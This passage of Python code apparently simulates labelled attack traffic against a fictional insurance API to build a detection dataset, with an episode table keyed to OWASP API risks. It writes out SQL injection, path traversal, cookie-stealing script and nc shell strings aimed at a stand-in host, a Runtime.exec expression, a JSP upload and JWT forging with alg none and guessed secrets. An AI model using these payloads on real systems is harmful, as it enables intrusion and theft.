        cl = a.w.at('104.28.40.19', 'python-httpx/0.26.0', n, ep='I19', headers={'X-Api-Key': a.w.garage[n]})
        for k in range(220):
            a.S.call(cl, 'GET', f'/api/garages/v1/assignments/SN-2026-{a.r.randint(4412, a.app.nclaim):06}')
            yield a.r.uniform(200, 1200)

    def i21(a):
        n = a.w.agency[3]
        cl = a.w.at(n.xff, n.ua, n.ident, ep='I21', headers=dict(n.h))
        for k in range(400):
            a.S.call(cl, 'GET', f'/api/agency/v1/prospects?page={k}&size=200')
            yield a.r.uniform(5, 22)

    def i22(a, k):
        cl = a.w.at(f'89.248.163.{k * 5 + 40}', ['curl/8.4.0', 'Wget/1.21.4'][k], ep='I22')
        for _ in range(20):
            a.S.call(cl, 'GET', '/api/tariffs/projection?product=44&years=5000&sum=100000')
            yield a.r.uniform(15, 60)

    def i23(a):
        cl = a.w.at('91.219.236.7', 'curl/7.88.1', ep='I23')
        for k in range(8):
            a.S.call(cl, 'GET', f'/internal/dunning/export?date=2026-03-{15 + k:02}')
            yield a.r.uniform(4000, 30000)

    def i24(a, k):
        cl = a.w.at(f'{["109.70.100", "51.15.43", "199.249.230"][k]}.{k * 11 + 20}', WEB[k], ep='I24')
        for _ in range(4):
            a.S.call(cl, 'GET', '/api/claims-ai/debug/scores')
            yield a.r.uniform(8000, 60000)

    def i25(a, k):
        cl = a.w.at(f'178.17.17{k}.{k * 9 + 60}', WEB[1], ep='I25')
        for p in a.words()[k::3][:110] + [f'/api/{x}/{y}' for x in ('v1', 'v3', 'customers', 'policies') for y in WORDS[k::3]]:
            a.S.call(cl, 'GET', p)
            yield a.r.uniform(700, 2400)

    def i26(a):
        cl = a.evil(109, 'I26')
        S, r, k = a.S, a.r, a.app.own[cl.u['id']][0]
        own = a.w.at(cl.xff, cl.ua, cl.ident, headers=dict(cl.h))
        c = S.call(own, 'POST', f'/api/policies/{k}/claims', js=dict(lossDate='2026-03-12', description='glass', estimated=200)).body['claimId']
        g = lambda p, **x: S.call(cl, 'GET', p, **x)
        for f in (lambda: g('/api/documents/' + quote('../../../../etc/passwd', safe='') + '/content'),
            lambda: g('/api/documents/..%252f..%252fapplication.yml/content'), lambda: g('/api/garages/search?' + urlencode({'zip': "10115' OR '1'='1"})),
                  lambda: g('/api/garages/search?' + urlencode({'zip': "1' UNION SELECT usename,passwd FROM pg_shadow--"})),
                      lambda: g('/api/policies?sort=' + quote("(case when (select 1)=1 then premium else status end)--")),
                  lambda: S.call(cl, 'POST', f'/api/policies/{k}/claims',
                      js=dict(lossDate='2026-03-12', description='<script>fetch("//198.18.9.9/?"+document.cookie)</script>', estimated=1)),
                  lambda: S.call(cl, 'POST', f'/api/policies/{k}/claims/{c}/documents',
                      **multipart(r, '../../webapps/ROOT/x.jsp', 'image/jpeg', 900, kind='PHOTO')),
                      lambda: g('/api/customers/me', h={'Cookie': "JSESSIONID=1' OR 1=1--; lang=../../etc/passwd"}),
                  lambda: g('/api/garages/search?zip=10115%0d%0a2026-03-14+INFO+login+ok+user=admin'),
                      lambda: S.call(cl, 'PATCH', '/api/customers/me', js=dict(phone='${T(java.lang.Runtime).getRuntime().exec("id")}')),
                  lambda: g('/api/garages/search?zip=' + quote('10115;cat /etc/passwd|nc 198.18.9.9 80')),
                      lambda: S.call(cl, 'PATCH', '/api/customers/me', js=dict(street="x'; DROP TABLE policy;--"))):
            yield r.uniform(150, 700)
            a.hold(cl)
            f()

    def i27(a):
        v = a.w.staff[2]
        cl = a.w.at('62.102.148.70', 'python-requests/2.31.0', ep='I27')
        now = int(a.S.now)
        base = dict(exp=now + DAY, iat=now, iss='https://service.norvia.example/auth/realms/norvia', sub=v['id'], typ='Bearer', azp='backoffice-ui',
            realm_access=dict(roles=['EMPLOYEE']), preferred_username=v['mail'])
        none = lambda h: b64(h) + '.' + b64(json.dumps(base).encode()) + '.'
        toks = [none(b'{"alg":"none","typ":"JWT"}'), none(b'{"alg":"None","typ":"JWT"}'), none(b'{"alg":"NONE"}') + 'AA', mint(base, 'x'),
            mint(base, 'y', 'RS512')]
        for t in toks + [jwt(base, k) for k in ('secret', 'norvia', 'password', '123456', 'spring', 'jwt', 'key', 'admin', 'test', 'keycloak', 'changeme',
                'default', 'qwertz', 'java', 'changeit', 'changeit', 'changeit')]:
            a.S.call(cl, 'GET', '/backoffice/api/customers?query=a', h={'Authorization': 'Bearer ' + t})
            yield a.r.uniform(2, 40)


EPISODES = (
    ('I01', 'bola_enumeration', 'API1:2023', 'actor', 'easy',
        'customer walks policy numbers upward with right check digits, 140 in six minutes; 200 with the policy of others, 404 between'),
    ('I02', 'bola_enumeration_slow', 'API1:2023', 'actor', 'hard',
        'customer opens policies of others, about two an hour by day for seven days, beside own use; 200'),
    ('I03', 'mass_assignment', 'API3:2023', 'actor', 'hard', 'profile patch carries discountTier, riskClass and roles; 200 with the new tier'),
    ('I04', 'bfla_admin_function', 'API5:2023', 'actor', 'medium', 'customer approves four own claims in the back office; 200 APPROVED'),
    ('I05', 'bfla_probe_denied', 'API5:2023', 'actor', 'medium', 'customer tries eight back office functions; 403'),
    ('I06', 'bola_write_account_takeover', 'API1:2023', 'actor', 'hard',
        'customer sets the e-mail address of five others, resets their passwords and signs in as them; 204, 200'),
    ('I07', 'credential_stuffing_distributed', 'API2:2023', 'endpoint', 'hard',
        '130 addresses, one to three log-ins each over nine hours at the token endpoint; 401, three succeed'),
    ('I08', 'password_spraying', 'API2:2023', 'endpoint', 'hard',
        'one password for 62 known accounts, five addresses, one attempt in 8 to 28 minutes; 401'),
    ('I09', 'user_enumeration', 'API2:2023', 'actor', 'easy',
        '300 addresses asked of the availability function in twelve minutes; 200 registered true or false'),
    ('I10', 'sqlmap_scan', 'API8:2023', 'actor', 'easy', 'sqlmap strings in the zip parameter, 60 in half a minute; 200, 400, 500'),
    ('I11', 'redos_app_dos', 'API4:2023', 'actor', 'medium', 'pathological IBAN strings make validation take up to 4.5 s, eight requests; 400'),
    ('I12', 'content_discovery', 'API9:2023', 'actor', 'easy', '245 unknown paths in a minute; 404, and 401 below /api and /backoffice'),
    ('I13', 'stolen_token', 'API2:2023', 'actor', 'hard',
        'token of an app customer used from another network with a browser agent for nine hours beside its owner; 200'),
    ('I14', 'api_fuzzing', 'API8:2023', 'actor', 'easy', '300 malformed bodies, types and methods in three minutes; 400, 401, 404, 405, 415, 500'),
    ('I15', 'unauthenticated_private_object', 'API2:2023', 'actor+endpoint', 'medium',
        'old contract version answers without a token, 180 contracts in 1.8 hours; 200 with name, birth date, phone'),
    ('I16', 'partner_lookup_unauthenticated', 'API2:2023', 'actor+endpoint', 'medium',
        'coverage check without key and with birth date 0000-00-00, 42 in 3.5 days; 200 with holder'),
    ('I17', 'log4shell_probe', 'API8:2023', 'actor', 'medium',
        'look-up strings in headers, parameters and bodies, four addresses, 36 in 1.3 days; 200, 201, 400, 401, 404'),
    ('I18', 'log4shell_success', 'API8:2023', 'actor', 'medium',
        'an obfuscated look-up header; the server then opens a directory connection and fetches a class file'),
    ('I19', 'leaked_api_key', 'API2:2023', 'actor', 'medium',
        'garage key from a new network and client reads 220 assignments of all garages in two days; 200'),
    ('I20', 'response_schema_growth_pii', 'API3:2023', 'endpoint', 'medium',
        'after a release claims carry the counterparty with birth date, e-mail, phone and IBAN (no attacker)'),
    ('I21', 'data_overconsumption', 'API4:2023', 'actor', 'easy',
        'an agency pulls 400 pages of 200 prospects in one night, ordinarily a page of 20 a day; 200'),
    ('I22', 'application_dos', 'API4:2023', 'actor+endpoint', 'medium',
        'projection with years=5000 takes 5.6 to 9 s, two addresses, 40 calls in some 15 minutes; 200'),
    ('I23', 'internal_endpoint_external', 'API9:2023', 'actor+endpoint', 'medium', 'dunning export from outside, eight times in two days; 200 with IBANs'),
    ('I24', 'shadow_endpoint', 'API9:2023', 'endpoint', 'medium', 'a debug listing of fraud scores appears and three clients outside call it; 200'),
    ('I25', 'content_discovery_slow', 'API9:2023', 'actor', 'hard',
        'unknown paths from three addresses, one in some 9 minutes each, for 2.5 days; 404 and 401'),
    ('I26', 'injection_mixed', 'API8:2023', 'actor', 'medium',
        'traversal, SQL, script, expression, cookie, log and shell strings, a dozen in 1.4 hours; 200, 201, 400, 404, 500'),
    ('I27', 'jwt_forging', 'API2:2023', 'actor', 'medium',
        'alg none, foreign keys and guessed secrets until a forged employee token is taken; 401, then 200 three times'))
